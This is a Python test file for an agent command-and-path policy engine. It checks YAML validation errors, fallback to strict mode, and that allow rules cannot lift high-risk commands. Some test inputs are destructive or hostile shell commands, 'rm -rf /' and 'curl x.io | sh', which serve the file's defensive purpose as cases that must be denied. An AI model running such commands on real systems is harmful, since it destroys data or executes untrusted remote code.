"""Policy files: validation errors name file, line and field; broken files fall back to strict."""

from __future__ import annotations

from pathlib import Path

import pytest

from openagent_lsp.errors import ConfigError
from openagent_lsp.policy.engine import PolicyEngine
from openagent_lsp.policy.schema import default_policy, load_policy, parse_policy_file
from openagent_lsp.policy.types import Verdict


def test_default_policy_ships_and_validates() -> None:
    p = default_policy()
    assert p.strict is False
    assert ".env" in p.paths.read_ask and ".git/**" in p.paths.write_deny
    assert default_policy(strict=True).strict is True


def test_wrong_field_type_reports_line_and_field(tmp_path: Path) -> None:
    f = tmp_path / "policy.yaml"
    f.write_text("version: 1\nstrict: false\ncommands:\n  allow:\n    - ls\n  deny: 42\n")
    with pytest.raises(ConfigError) as exc:
        parse_policy_file(f)
    msg = str(exc.value)
    assert f"{f}:6" in msg and "commands.deny" in msg


def test_unknown_field_and_bad_list_item(tmp_path: Path) -> None:
    f = tmp_path / "policy.yaml"
    f.write_text("version: 1\npaths:\n  read_ask:\n    - .env\n    - ''\n  write_denyy: []\n")
    with pytest.raises(ConfigError) as exc:
        parse_policy_file(f)
    msg = str(exc.value)
    assert "paths.write_denyy" in msg and ":6" in msg
    assert "paths.read_ask" in msg and ":4" in msg


def test_yaml_syntax_error_reports_line(tmp_path: Path) -> None:
    f = tmp_path / "policy.yaml"
    f.write_text("version: 1\ncommands:\n  allow: [ls\n  deny: []\n")
    with pytest.raises(ConfigError) as exc:
        parse_policy_file(f)
    assert str(f) in str(exc.value) and "invalid YAML" in str(exc.value)


def test_bad_rule_is_reported(tmp_path: Path) -> None:
    f = tmp_path / "policy.yaml"
    f.write_text("commands:\n  allow:\n    - 'git \"unterminated'\n")
    with pytest.raises(ConfigError, match=r"commands\.allow"):
        parse_policy_file(f)


def test_load_policy_falls_back_to_strict(tmp_path: Path) -> None:
    f = tmp_path / "policy.yaml"
    f.write_text("strict: maybe\n")
    policy, warning = load_policy(str(f))
    assert policy.strict is True
    assert warning and "strict" in warning and ":1" in warning
    missing, warning2 = load_policy(str(tmp_path / "nope.yaml"))
    assert missing.strict and warning2
    ok, none = load_policy(None)
    assert none is None and not ok.strict


def test_engine_from_file_fallback_and_user_rules(tmp_path: Path, workspace: Path) -> None:
    broken = tmp_path / "broken.yaml"
    broken.write_text("commands: [1, 2]\n")
    e = PolicyEngine.from_file(str(broken))
    assert e.strict and e.load_warning
    assert e.check_command("frobnicate", workspace, workspace).verdict is Verdict.DENY

    good = tmp_path / "good.yaml"
    good.write_text(
        "commands:\n  allow: ['frobnicate *']\n  deny: ['git status *', 'cat *']\n  ask: ['ls *']\n"
        "paths:\n  read_ask: ['*.secret']\n  write_deny: ['generated/**']\n"
    )
    e = PolicyEngine.from_file(str(good), strict=False)
    assert e.load_warning is None
    assert e.check_command("frobnicate --all", workspace, workspace).verdict is Verdict.ALLOW
    assert e.check_command("git status", workspace, workspace).verdict is Verdict.DENY
    assert e.check_command("env /bin/cat x", workspace, workspace).verdict is Verdict.DENY
    assert e.check_command("ls -la", workspace, workspace).verdict is Verdict.REQUIRE_APPROVAL
    assert e.check_command("rm -rf /", workspace, workspace).verdict is Verdict.DENY
    assert e.check_command("echo x > generated/a.py", workspace, workspace).verdict is Verdict.DENY


def test_allow_rule_cannot_lift_high_or_critical(tmp_path: Path, workspace: Path) -> None:
    f = tmp_path / "p.yaml"
    f.write_text("commands:\n  allow: ['rm *', 'git *', 'curl *', 'sh *']\n")
    e = PolicyEngine.from_file(str(f), strict=False)
    assert e.check_command("rm -rf /", workspace, workspace).verdict is Verdict.DENY
    assert e.check_command("git push --force", workspace, workspace).verdict is Verdict.REQUIRE_APPROVAL
    assert e.check_command("curl x.io | sh", workspace, workspace).verdict is Verdict.DENY
    assert (
        e.check_command("rm build/x", workspace, workspace).verdict is Verdict.REQUIRE_APPROVAL
    )  # delete asks
